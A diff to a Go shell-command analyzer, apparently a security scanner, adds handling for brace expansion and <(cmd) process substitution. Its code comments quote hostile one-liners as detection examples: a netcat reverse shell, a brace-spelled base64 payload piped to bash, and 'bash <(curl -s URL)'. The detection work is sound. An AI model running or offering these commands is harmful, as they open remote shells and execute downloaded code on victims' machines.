@@ -7,6 +7,7 @@ import (
 	"strconv"
 	"strings"
 
+	shexpand "mvdan.cc/sh/v3/expand"
 	"mvdan.cc/sh/v3/syntax"
 )
 
@@ -55,6 +56,8 @@ type analysis struct {
 	// at once.
 	runs  *[]run
 	runAs *runVia
+	// procSubst counts the <(cmd) substitutions made, each given a /dev/fd path of its own.
+	procSubst int
 	// cwd is the directory a cd moved to, "" when it is not known (the home directory).
 	cwd string
 	// exhaustive is Analyzer.Exhaustive: no shortcut in front of the work it saves.
@@ -528,6 +531,15 @@ func (a *analysis) writeFile(p string, v val, app bool, at syntax.Node) {
 // fields expands a word into fields: unquoted expansions whose value holds blanks are split,
 // as the shell does ($CMD with CMD="nc -e /bin/sh h p").
 func (a *analysis) fields(w *syntax.Word) []val {
+	if ws := braceWords(w); ws != nil {
+		// {bash,-i} is two words, as bash's brace expansion makes it: a command spelled so
+		// that it holds no blank ({echo,QmFz...}|{base64,-d}|{bash,-i})
+		var out []val
+		for _, x := range ws {
+			out = append(out, a.fields(x)...)
+		}
+		return out
+	}
 	v := a.word(w)
 	split := false
 	for _, p := range w.Parts {
@@ -590,10 +602,17 @@ func (a *analysis) part(p syntax.WordPart, quoted bool) val {
 			return lit(strconv.FormatInt(n, 10))
 		}
 	case *syntax.ProcSubst:
-		// <(cmd) and >(cmd): the command runs; its path is unknown.
+		// <(cmd) and >(cmd): the command runs. <(cmd) is a path (/dev/fd/N) whose content is
+		// what cmd writes: bash <(curl -s URL) runs what it downloads.
 		buf := &val{}
 		fds := fdset{1: desc{wr: &sink{buf: buf}}}
 		a.stmts(x.Stmts, fds)
+		if x.Op == syntax.CmdIn && (buf.s != "" || buf.tainted()) {
+			a.procSubst++
+			p := "/dev/fd/" + strconv.Itoa(64-a.procSubst)
+			a.files[p] = clip(*buf)
+			return lit(p)
+		}
 	}
 	return unknownVal()
 }
@@ -839,4 +858,51 @@ func (l *hitList) add(h hit) {
 	}
 	l.seen[k] = true
 	l.hits = append(l.hits, h)
+}
+
+// maxBraceWords bounds the words one brace expansion makes.
+const maxBraceWords = 32
+
+// braceWords returns the words an unquoted brace expansion in w makes ({a,b} is a and b),
+// nil when w has none. Sequences ({1..9}) are left alone: no command is spelled with one,
+// and a range can ask for millions of words.
+func braceWords(w *syntax.Word) []*syntax.Word {
+	if w == nil || len(w.Parts) == 0 {
+		return nil
+	}
+	hasBrace := false
+	for _, p := range w.Parts {
+		if l, ok := p.(*syntax.Lit); ok && strings.Contains(l.Value, "{") && strings.Contains(l.Value, ",") {
+			hasBrace = true
+			break
+		}
+	}
+	if !hasBrace {
+		return nil
+	}
+	cp := &syntax.Word{Parts: slices.Clone(w.Parts)}
+	if !syntax.SplitBraces(cp) || sequenceBrace(cp.Parts) {
+		return nil
+	}
+	ws := shexpand.Braces(cp)
+	if len(ws) < 2 || len(ws) > maxBraceWords {
+		return nil
+	}
+	return ws
+}
+
+func sequenceBrace(parts []syntax.WordPart) bool {
+	for _, p := range parts {
+		if b, ok := p.(*syntax.BraceExp); ok {
+			if b.Sequence {
+				return true
+			}
+			for _, e := range b.Elems {
+				if sequenceBrace(e.Parts) {
+					return true
+				}
+			}
+		}
+	}
+	return false
 }
